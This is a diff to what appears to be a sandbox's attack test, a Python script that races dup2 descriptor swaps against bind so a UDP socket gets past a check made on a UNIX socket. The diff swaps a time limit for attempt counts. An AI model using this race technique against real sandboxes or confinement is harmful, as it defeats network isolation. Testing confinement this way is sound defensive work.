@@ -2,8 +2,8 @@ import ctypes
 import os
 import socket
 import struct
+import sys
 import threading
-import time
 
 from tests.attacks.places import Places, flag_in, libc
 
@@ -11,7 +11,7 @@ TITLE = "a descriptor that changes while it is looked at"
 TRIES = "Shows a UNIX socket to whoever judges bind, and puts a UDP socket in its place."
 PROMISE = "network"
 MUST_FAIL = "A UDP socket hears loopback's device only, whatever address it is bound to."
-RACING_S = 1.5
+ATTEMPTS, SWAPS = 1_500, 20_000
 
 
 def needs(places: Places) -> None:
@@ -21,18 +21,20 @@ def needs(places: Places) -> None:
 def attack(places: Places) -> str | None:
     port, host = places.ports["raced"].to_bytes(2, "big"), socket.inet_aton(places.own_address)
     raw = struct.pack("=H", socket.AF_INET) + port + host + bytes(8)
-    until, udp = time.monotonic() + RACING_S, socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
-    place = os.dup(unix.fileno())
+    place, tries, swaps = os.dup(unix.fileno()), 0, list[int]()
 
     def swap() -> None:
-        while time.monotonic() < until:
+        while True:
             os.dup2(udp.fileno(), place)
             os.dup2(unix.fileno(), place)
+            swaps.append(1)
 
+    sys.setswitchinterval(0.0005)
     threading.Thread(target=swap, daemon=True).start()
-    udp.settimeout(0.3)
-    while time.monotonic() < until:
+    udp.settimeout(places.arrives_s)
+    while (tries := tries + 1) < ATTEMPTS or len(swaps) < SWAPS:
         libc.bind(place, ctypes.c_char_p(raw), 16)
         if udp.getsockname()[0] == places.own_address:
             device = udp.getsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, 16)
